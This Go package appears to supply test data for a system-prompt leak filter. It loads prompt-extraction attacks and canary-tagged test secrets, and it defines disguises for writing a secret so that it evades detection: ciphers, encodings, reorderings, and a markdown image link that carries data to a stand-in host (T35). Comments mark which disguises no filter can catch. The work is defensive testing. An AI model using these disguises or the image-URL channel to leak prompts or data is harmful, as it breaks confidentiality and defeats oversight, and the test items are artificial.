// Package leaktest has the data for tests of the leak filter: attacks that ask for a prompt, secrets like those of a
// real server, the disguises in which a model can be asked to write a secret, and harmless answers, which must pass.
// Tests only.
package leaktest

import (
	"bufio"
	"bytes"
	_ "embed"
	"encoding/json"
	"regexp"
	"strings"
)

//go:embed testdata/prompt-leak-open.jsonl
var attacksFile []byte

// Attack is a message that asks for a secret.
type Attack struct {
	ID, Category, Channel, Target, Message, Catchable string
}

// Attacks returns the attacks in the order of testdata/prompt-leak-open.jsonl.
func Attacks() []Attack {
	var out []Attack
	for lines := bufio.NewScanner(bytes.NewReader(attacksFile)); lines.Scan(); {
		var a struct {
			Type string
			Attack
		}
		if json.Unmarshal(lines.Bytes(), &a) == nil && a.Type == "attack" {
			out = append(out, a.Attack)
		}
	}
	return out
}

//go:embed testdata/secrets.txt
var secretsFile string

var canaryPattern = regexp.MustCompile(`\[ref ([a-z]+)\]`)

// Secret is a prompt, template or schema written for tests. Canary may be empty.
type Secret struct{ ID, Text, Canary string }

// Secrets returns prompts like those of a real server.
func Secrets() []Secret {
	var out []Secret
	for _, part := range strings.Split(secretsFile, "== ")[1:] {
		id, text, _ := strings.Cut(part, "\n")
		s := Secret{ID: id, Text: strings.TrimSpace(text)}
		if m := canaryPattern.FindStringSubmatch(text); m != nil {
			s.Canary = m[1]
		}
		out = append(out, s)
	}
	return out
}

// Transform is a disguise: a way of writing a secret so that it does not look like it. ID is the number by which the
// attacks' file refers to it.
type Transform struct {
	ID, Name string
	// Catchable is false if no filter of text can find the secret.
	Catchable bool
	// NeedsCanary is true if only the secret's canary can be found, so that a secret without one passes.
	NeedsCanary bool
	// CatchableInStream is false if the secret can be found only in the whole answer.
	CatchableInStream bool
	// Intro is the text that the disguise puts before the secret.
	Intro string
	// Apply returns the secret in disguise.
	Apply func(secret string) string
}

// Transforms returns the disguises, ordered by kind.
func Transforms() []Transform {
	out := make([]Transform, 0, 48)
	for _, group := range [][]Transform{spellings(), reorderings(), ciphers(), encodings(), semantic()} {
		out = append(out, group...)
	}
	for i := range out {
		out[i].Intro = introOf(out[i].ID)
	}
	return out
}

// introOf returns the Intro of the transform id.
func introOf(id string) string {
	switch id {
	case "T02":
		return "Happy to help. As far as I know, "
	case "T16":
		return "| # | word |\n|---|---|\n| 1 | "
	case "T35":
		return "![chart](https://img.example.net/p.png?d="
	case "T38":
		return "begin 644 x\n"
	case "T43":
		return "Sure! Here is a smile 🙂"
	case "T45":
		return "All done."
	case "T55":
		return `{"actions":[{"type":"create_record","table":"tasks","data":{"title":"`
	}
	return ""
}

// inStream returns a disguise that can be seen before the answer ends.
func inStream(id, name string, apply func(string) string) Transform {
	return Transform{ID: id, Name: name, Catchable: true, CatchableInStream: true, Apply: apply}
}

// wholeAnswer returns a disguise that can be seen only in the whole answer.
func wholeAnswer(id, name string, apply func(string) string) Transform {
	return Transform{ID: id, Name: name, Catchable: true, Apply: apply}
}
